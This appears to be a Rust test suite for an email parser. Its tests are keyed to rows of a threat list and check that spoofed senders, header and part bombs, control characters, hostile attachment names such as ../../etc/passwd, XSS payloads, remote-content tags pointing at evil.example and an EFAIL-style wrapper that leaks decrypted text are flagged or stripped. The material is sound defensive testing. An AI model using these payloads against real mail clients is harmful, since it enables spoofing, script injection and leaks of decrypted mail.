//! What THREATS.md asks of a parser, each test named after its row.

use super::*;
use crate::mail::Attachment;

const HEAD: &str =
    "From: Ann <a@b.example>\r\nDate: Mon, 1 Jan 2024 10:00:00 +0100\r\nMessage-ID: <1@b.example>\r\n";

fn mail(rest: &str) -> Inbound {
    parse(format!("{HEAD}{rest}").as_bytes())
}

fn sender(from: &str) -> Inbound {
    parse(
        format!("{from}\r\nDate: Mon, 1 Jan 2024 10:00:00 +0100\r\nMessage-ID: <1@b.example>\r\n\r\nx")
            .as_bytes(),
    )
}

fn has(mail: &Inbound, defect: &str) -> bool {
    mail.defects.contains(&defect)
}

/// Every derived text of a mail.
fn texts(mail: &Inbound) -> Vec<&str> {
    let mut all = vec![
        mail.subject.as_str(),
        mail.from.name(),
        &mail.words.text,
        &mail.words.quoted,
        &mail.words.signature,
    ];
    all.extend(mail.html.as_deref());
    all.extend(mail.to.iter().flat_map(|m| [m.name.as_str(), &m.address]));
    all.extend(
        mail.attachments
            .iter()
            .flat_map(|a| [a.filename.as_str(), &a.media_type, a.content_id.as_deref().unwrap_or("")]),
    );
    all
}

#[test]
fn t07_a_name_is_never_an_address() {
    for (from, name, flagged) in [
        ("From: \"boss@corp.example\" <x@evil.example>", "boss@corp.example", true),
        ("From: \"boss\u{ff20}corp.example\" <x@evil.example>", "boss\u{ff20}corp.example", true),
        ("From: =?utf-8?q?boss=40corp=2Eexample?= <x@evil.example>", "boss@corp.example", true),
        ("From: \"x@evil.example\" <x@evil.example>", "x@evil.example", false),
        ("From: \"\u{202e}ssob\u{202c}\" <x@evil.example>", "ssob", false),
        ("From: B\u{200b}o\u{2060}ss <x@evil.example>", "Boss", false),
        ("From: \"a\r\n\tb\" <x@evil.example>", "a b", false),
    ] {
        let mail = sender(from);
        assert_eq!((mail.from.name(), has(&mail, "address-in-name")), (name, flagged), "{from:?}");
        assert_eq!(mail.from.address().map(AddrSpec::as_str), Some("x@evil.example"), "{from:?}");
    }
}

#[test]
fn t08_nobody_becomes_staff_by_encoding() {
    for from in [
        "=?utf-8?b?c3RhZmZAZGVzay5leGFtcGxlAA==?=@evil.example",
        "=?utf-8?q?staff=40desk.example=00?=@evil.example",
        "\"staff@desk.example\"@evil.example",
        "staff@desk.example(@evil.example",
        "staff@desk.example\0@evil.example",
        "<staff@desk.example>@evil.example",
        "staff@desk.example@evil.example",
        "<staff(x)@desk.example>",
        "<staff @desk.example>",
        "\"staff\"@desk.example",
        "=?utf-8?q?x?= <=?utf-8?q?staff=40desk.example?=>",
        "staff@desk.example, x@evil.example",
        "staff@desk.example <x@evil.example>",
        "x@evil.example; staff@desk.example",
    ] {
        let mail = sender(&format!("From: {from}"));
        let address = mail.from.address().map(AddrSpec::as_str);
        assert!(matches!(address, None | Some("x@evil.example")), "{from:?} is {address:?}");
        assert!(address.is_some() || has(&mail, "unclear-from"), "{from:?}: {:?}", mail.defects);
    }
}

#[test]
fn t09_one_field_with_one_mailbox_or_none() {
    for from in [
        "From: staff@desk.example\r\nFrom: x@evil.example",
        "From: staff@desk.example\r\nFROM: staff@desk.example",
        "From : staff@desk.example\r\nfrom: x@evil.example",
        "From:\r\nFrom: staff@desk.example",
        "From: staff@desk.example\r\nFrom\r\n : x@evil.example",
        "From: <x@evil.example>:<staff@desk.example>",
        "From: staff: x@evil.example, y@evil.example;",
        "From: staff@desk.example, staff@desk.example",
        "From: <@evil.example:staff@desk.example>",
    ] {
        assert_eq!(sender(from).from.address(), None, "{from:?}");
    }
    // A first line that begins with white space is no field of its own, and no From hides behind it.
    let folded = parse(b" From: staff@desk.example\r\nSubject: x\r\n\r\ny");
    assert_eq!((folded.from.address(), has(&folded, "folded-first-line")), (None, true));
}

#[test]
fn t16_look_alikes_are_other_persons_or_nobody() {
    let key =
        |address: &str| sender(&format!("From: {address}")).from.address().map(|a| a.as_str().to_owned());
    let mike = Some("mike@desk.example".to_owned());
    assert_eq!(key("MIKE@Desk.Example"), mike);
    for other in
        ["mike@desk.exampIe", "m\u{131}ke@desk.example", "mike@\u{217e}esk.example", "mike@xn--example-.org"]
    {
        assert_ne!(key(other), mike, "{other}");
    }
    assert_eq!(key("mike@\u{217e}esk.example"), None);
    assert!(has(&sender("From: mike@d\u{435}sk.example"), "mixed-script-domain"));
}

#[test]
fn t34_a_reader_that_panics_costs_one_mail() {
    let raw = b"From: a@b.example\r\n\r\npoison";
    let held = safely(raw, |_| panic!("as if the reader had a bug"));
    assert_eq!((held.defects.as_slice(), held.size), (["parser-failed"].as_slice(), raw.len() as u64));
    assert_eq!(held.content_hash, <[u8; 32]>::from(Sha256::digest(raw)));
    assert!(!has(&parse(raw), "parser-failed"));
}

#[test]
fn t37_too_many_parts_become_a_mail_with_a_note() {
    let many = mail(&format!(
        "Subject: bomb\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n{}",
        "--b\r\n\r\n".repeat(200_000)
    ));
    assert_eq!((many.subject.as_str(), has(&many, "too-many-parts")), ("bomb", true));
    assert!(many.attachments.is_empty());
    let file = "--b\r\nContent-Type: image/png\r\n\r\nx\r\n";
    let files = mail(&format!("Content-Type: multipart/mixed; boundary=b\r\n\r\n{}--b--", file.repeat(150)));
    assert_eq!((files.attachments.len(), has(&files, "too-many-attachments")), (100, true));
    let deep: String =
        (0..21).map(|n| format!("Content-Type: multipart/mixed; boundary=b{n}\r\n\r\n--b{n}\r\n")).collect();
    assert!(has(&mail(&format!("Subject: deep\r\n{deep}\r\nwords")), "too-deep"));
}

#[test]
fn t38_headers_are_bounded() {
    let long = mail(&format!("Subject: {}\r\n\r\nx", "a ".repeat(300_000)));
    assert!(has(&long, "header-too-long"));
    let many = mail(&format!("{}\r\nx", "X: y\r\n".repeat(3000)));
    assert!(has(&many, "too-many-fields"));
    let to = mail(&format!("To: {}\r\n\r\nx", "a@b.example, ".repeat(15_000)));
    assert_eq!(to.to.len(), 200);
    let ids = mail(&format!(
        "References: {}\r\n\r\nx",
        (0..9000).map(|n| format!("<{n}@b>\r\n ")).collect::<String>()
    ));
    assert_eq!(ids.references.len(), 100);
    assert_eq!((ids.references[0].as_str(), ids.references[99].as_str()), ("0@b", "8999@b"));
}

#[test]
fn t40_no_control_in_any_text() {
    let hostile = "a\0b\u{1}c\u{1b}[31md\u{7f}e\u{85}f\u{202e}g\u{2066}h\u{200f}i\u{feff}j\u{fffe}k";
    let name: String = hostile.bytes().map(|b| format!("%{b:02X}")).collect();
    let word: String = hostile.bytes().map(|b| format!("={b:02X}")).collect();
    let raw = format!(
        "From: =?utf-8?q?{word}?= <a@b.example>\r\nTo: =?utf-8?q?{word}?= <{hostile}@b.example>\r\nSubject: {hostile} =?utf-8?q?{word}?=\r\n\
         Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{hostile}\r\n\
         --b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p title=\"{hostile}\">{hostile}&#0;&#x202e;&#27;</p>\r\n\
         --b\r\nContent-Type: image/png; name*=utf-8''{name}\r\nContent-ID: <{hostile}>\r\n\r\nx\r\n--b--\r\n"
    );
    let mail = parse(raw.as_bytes());
    assert_eq!(mail.attachments.len(), 1);
    for text in texts(&mail) {
        let bad = |c: char| {
            (c.is_control() && c != '\t' && c != '\n') || matches!(c, '\u{200f}' | '\u{202e}' | '\u{2066}')
        };
        assert!(!text.contains(bad), "{text:?}");
        assert!(
            text.is_empty() || text == "image/png" || text.contains('k') || text.contains("b.example"),
            "{text:?}"
        );
    }
}

#[test]
fn t40_every_label_decodes() {
    let labels = [
        "utf-8",
        "utf-16",
        "utf-16le",
        "utf-7",
        "iso-8859-1",
        "iso-8859-2",
        "iso-8859-3",
        "iso-8859-4",
        "iso-8859-5",
        "iso-8859-6",
        "iso-8859-7",
        "iso-8859-8",
        "iso-8859-8-i",
        "iso-8859-9",
        "iso-8859-10",
        "iso-8859-11",
        "iso-8859-13",
        "iso-8859-14",
        "iso-8859-15",
        "iso-8859-16",
        "koi8-r",
        "koi8-u",
        "macintosh",
        "x-mac-cyrillic",
        "windows-874",
        "windows-1250",
        "windows-1251",
        "windows-1252",
        "windows-1253",
        "windows-1254",
        "windows-1255",
        "windows-1256",
        "windows-1257",
        "windows-1258",
        "ibm866",
        "gbk",
        "gb2312",
        "gb18030",
        "big5",
        "euc-jp",
        "iso-2022-jp",
        "shift_jis",
        "euc-kr",
        "iso-2022-kr",
        "iso-2022-cn",
        "hz-gb-2312",
        "us-ascii",
        "x-user-defined",
        "x-unknown",
        "no such charset",
        "'; drop",
        "",
    ];
    for label in labels {
        let mut raw =
            format!("{HEAD}Content-Type: text/plain; charset=\"{label}\"\r\n\r\nplain ").into_bytes();
        raw.extend(0x20..=0xff_u8);
        let mail = parse(&raw);
        assert!(
            label.contains("16") && !label.starts_with("iso") || mail.words.text.starts_with("plain"),
            "{label}: {:?}",
            mail.words
        );
        assert!(!mail.words.text.chars().any(|c| c.is_control() && c != '\n' && c != '\t'), "{label}");
    }
}

#[test]
fn t41_odd_line_ends_are_one_mail_and_flagged() {
    for raw in [
        "From: a@b.example\r\nSubject: x\n\r\nbody",
        "From: a@b.example\nSubject: x\r\n\r\nbody",
        "From: a@b.example\rFrom: staff@desk.example\r\nSubject: x\r\n\r\nbody",
    ] {
        let mail = parse(raw.as_bytes());
        assert!(has(&mail, "mixed-line-ends"), "{raw:?}: {:?}", mail.defects);
        assert_ne!(mail.from.address().map(AddrSpec::as_str), Some("staff@desk.example"));
    }
    for end in ["\n.\r\n", "\r\n.\n", "\r.\r", "\n.\n", "\r\n.\r"] {
        let mail = mail(&format!(
            "Subject: one\r\n\r\nfirst{end}MAIL FROM:<x@evil.example>\r\nFrom: staff@desk.example\r\n\r\nsecond\r\n"
        ));
        assert_eq!(mail.from.address().map(AddrSpec::as_str), Some("a@b.example"), "{end:?}");
        assert!(
            mail.words.text.contains("first") && format!("{:?}", mail.words).contains("second"),
            "{end:?}"
        );
        assert!(has(&mail, "end-of-data-in-body"), "{end:?}: {:?}", mail.defects);
    }
    assert!(!has(&mail("\r\nfine\r\n.\r\nfine\r\n"), "end-of-data-in-body"));
}

fn files(rest: &str) -> Vec<Attachment> {
    mail(rest).attachments
}

#[test]
fn t47_winmail_is_one_file() {
    let raw = "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nsee file\r\n--b\r\nContent-Type: application/ms-tnef; name=winmail.dat\r\n\
               Content-Transfer-Encoding: base64\r\n\r\neJ8+IgEAAAD//////////w==\r\n--b--\r\n";
    let mail = mail(raw);
    assert_eq!((mail.words.text.as_str(), has(&mail, "winmail-dat")), ("see file", true));
    assert_eq!((mail.attachments[0].filename.as_str(), mail.attachments[0].size), ("winmail.dat", 16));
    assert_eq!(mail.attachments.len(), 1);
}

#[test]
fn t48_sealed_mail_is_kept_whole_and_marked() {
    let secret = "-----BEGIN PGP MESSAGE-----\r\n\r\nhQEMA\r\n-----END PGP MESSAGE-----\r\n";
    let encrypted = format!(
        "--c\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--c\r\nContent-Type: application/octet-stream\r\n\r\n{secret}--c--\r\n"
    );
    let kind = "multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=c";
    let alone = mail(&format!("Content-Type: {kind}\r\n\r\n{encrypted}"));
    assert_eq!((has(&alone, "encrypted"), alone.attachments.len(), alone.html.as_deref()), (true, 2, None));
    // EFAIL: the sealed part inside an open tag of its neighbour.
    let wrapped = mail(&format!(
        "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n\
         --b\r\nContent-Type: {kind}\r\n\r\n{encrypted}--b\r\nContent-Type: text/html\r\n\r\n\">\r\n--b--\r\n"
    ));
    assert!(has(&wrapped, "encrypted") && wrapped.attachments.len() == 2);
    assert!(
        texts(&wrapped).iter().all(|t| !t.contains("hQEMA")),
        "a sealed part is never joined with its neighbours"
    );
    assert!(has(&mail(&format!("\r\n{secret}")), "encrypted"));
    let smime = |kind: &str| {
        mail(&format!(
            "Content-Type: application/pkcs7-mime; {kind}; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\nMIAG"
        ))
    };
    assert!(has(&smime("smime-type=enveloped-data"), "encrypted"));
    assert!(has(&smime("smime-type=signed-data"), "signed-unread"));
    let signed = mail(
        "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; micalg=pgp-sha256; boundary=b\r\n\r\n--b\r\n\r\nwords\r\n\
         --b\r\nContent-Type: application/pgp-signature; name=signature.asc\r\n\r\nx\r\n--b--\r\n",
    );
    assert_eq!((signed.words.text.as_str(), has(&signed, "signature-unchecked")), ("words", true));
    assert_eq!(signed.attachments.len(), 1);
}

#[test]
fn t50_what_differs_is_marked_and_nothing_is_fetched() {
    let both = |plain: &str, html: &str| {
        mail(&format!(
            "Content-Type: multipart/alternative; boundary=b\r\n\r\n--b\r\n\r\n{plain}\r\n--b\r\nContent-Type: text/html\r\n\r\n{html}\r\n--b--\r\n"
        ))
    };
    let differs = both(
        "Please send my printer back, thanks.",
        "<p>Wire ten thousand dollars to this account today</p>",
    );
    assert_eq!((has(&differs, "alternatives-differ"), differs.words.text.contains("printer")), (true, true));
    assert!(!has(
        &both("Please send my printer back", "<p>Please <b>send</b> my printer back</p>"),
        "alternatives-differ"
    ));
    let outside = mail(
        "Content-Type: message/external-body; access-type=URL; URL=\"http://evil.example/x\"\r\n\r\nContent-Type: text/plain\r\n\r\n",
    );
    assert!(has(&outside, "external-body"));
    assert!(has(
        &mail("Content-Type: message/partial; number=1; total=2; id=x\r\n\r\nSubject: y\r\n\r\nz"),
        "partial-message"
    ));
}

#[test]
fn t51_forty_hostile_file_names() {
    let long = format!("{}.pdf", "x".repeat(10_000));
    let names = [
        "../../etc/passwd",
        "/etc/passwd",
        "..\\..\\boot.ini",
        "C:\\Windows\\x.exe",
        "\\\\host\\share\\x",
        ".htaccess",
        "..htaccess",
        "\u{200b}.htaccess",
        ".\u{200d}htaccess",
        "\u{202e}.htaccess",
        "\u{ad}.\u{ad}htaccess",
        "a\u{202e}gpj.exe",
        "con",
        "CON.txt",
        "nul",
        "aux.c",
        "com1",
        "LPT9.txt",
        "prn.",
        "a\r\nb.txt",
        "a\0b.txt",
        "a\tb",
        ".",
        "..",
        "...",
        " ",
        "",
        "a/",
        "a/..",
        "./a",
        "a:b",
        "a|b",
        "a*?<>\"b",
        "a\u{2028}b",
        "a\u{feff}b",
        "%2e%2e%2fx",
        "=?utf-8?q?..=2Fx?=",
        " . x . ",
        "x\u{85}y",
        &long,
    ];
    assert_eq!(names.len(), 40);
    for name in names {
        let encoded: String = name.bytes().map(|b| format!("%{b:02X}")).collect();
        let found = files(&format!("Content-Type: application/x; name*=utf-8''{encoded}\r\n\r\nx"));
        let shown = &found[0].filename;
        let bad = |c: char| {
            c.is_control() || "/\\<>:\"|?*\u{200b}\u{200d}\u{202e}\u{ad}\u{2028}\u{feff}".contains(c)
        };
        assert!(
            shown.len() <= 150 && !shown.starts_with('.') && !shown.ends_with('.') && !shown.contains(bad),
            "{name:?}: {shown:?}"
        );
        let stem = shown.split('.').next().unwrap_or("").to_ascii_lowercase();
        assert!(
            !["con", "nul", "aux", "prn", "com1", "lpt9"].contains(&stem.as_str()),
            "{name:?}: {shown:?}"
        );
    }
}

#[test]
fn t52_t53_content_is_never_loaded() {
    let page = "<img src=file:///etc/passwd><img src=http://evil.example/x.png><link rel=stylesheet href=http://evil.example/c.css>\
                <iframe src=http://evil.example></iframe><object data=http://evil.example></object><video src=http://evil.example></video>\
                <div style=\"background:url(http://evil.example/b)\">words</div><table background=http://evil.example/t><tr><td>cell</table>\
                <style>@import url(http://evil.example/i);</style><base href=http://evil.example><meta http-equiv=refresh content=\"0;url=http://evil.example\">";
    let mail = mail(&format!("Content-Type: text/html\r\n\r\n{page}"));
    let html = mail.html.as_deref().expect("a page");
    assert!(html.contains("words") && html.contains("cell"));
    for word in ["evil.example", "file:", "passwd", "url(", "@import"] {
        assert!(!html.contains(word), "{word} in {html}");
    }
}

#[test]
fn t54_t55_no_script_survives() {
    for page in [
        "<script>alert(1)</script>",
        "<svg onload=alert(1)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\" &#14; javascript:alert(1)\">x</a>",
        "<a href=data:text/html,x>x</a>",
        "<form action=x><button formaction=javascript:x>",
        "<img src=x onerror=alert(1)>",
        "<p style=x:expression(alert(1))>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>x</script></template>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<!--><script>alert(1)</script>-->",
        "<x onclick=alert(1)>y</x>",
    ] {
        let clean = mail(&format!("Content-Type: text/html\r\n\r\n{page}"))
            .html
            .expect("a page")
            .to_ascii_lowercase();
        // What is left of it as text is escaped; as markup nothing is.
        for tag in clean.split('<').skip(1).map(|t| t.split('>').next().unwrap_or("")) {
            let names = ["script", "svg", "math", "style", "form", "button", "noscript", "template", "x"];
            assert!(
                !names.contains(&tag.split([' ', '/']).find(|w| !w.is_empty()).unwrap_or("")),
                "{page}: {clean}"
            );
            assert!(
                !tag.contains("javascript:") && !tag.contains("onerror=a") && !tag.contains("data:"),
                "{page}: {clean}"
            );
        }
    }
    let named =
        mail("Subject: \"><svg onload=alert(1)>\r\nTo: \"<b>\" <a@b.example>\r\n\r\n<b>not markup</b>");
    assert_eq!((named.html, named.words.text.as_str()), (None, "<b>not markup</b>"));
}

#[test]
fn t56_t57_pictures_come_from_the_same_mail_alone() {
    let page = "<img src=\"cid:a@b\"><img src=\"https://t.example/p.gif\" width=1 height=1><img src=//t.example/p><img src=data:image/png;base64,AA==>\
                <img srcset=\"https://t.example/2x 2x\" width=99999 alt=z>";
    let html = mail(&format!("Content-Type: text/html\r\n\r\n{page}")).html.expect("a page");
    assert_eq!(html.matches("src=").count(), 1, "{html}");
    assert!(html.contains("cid:a@b") && !html.contains("t.example") && !html.contains("99999"), "{html}");
}
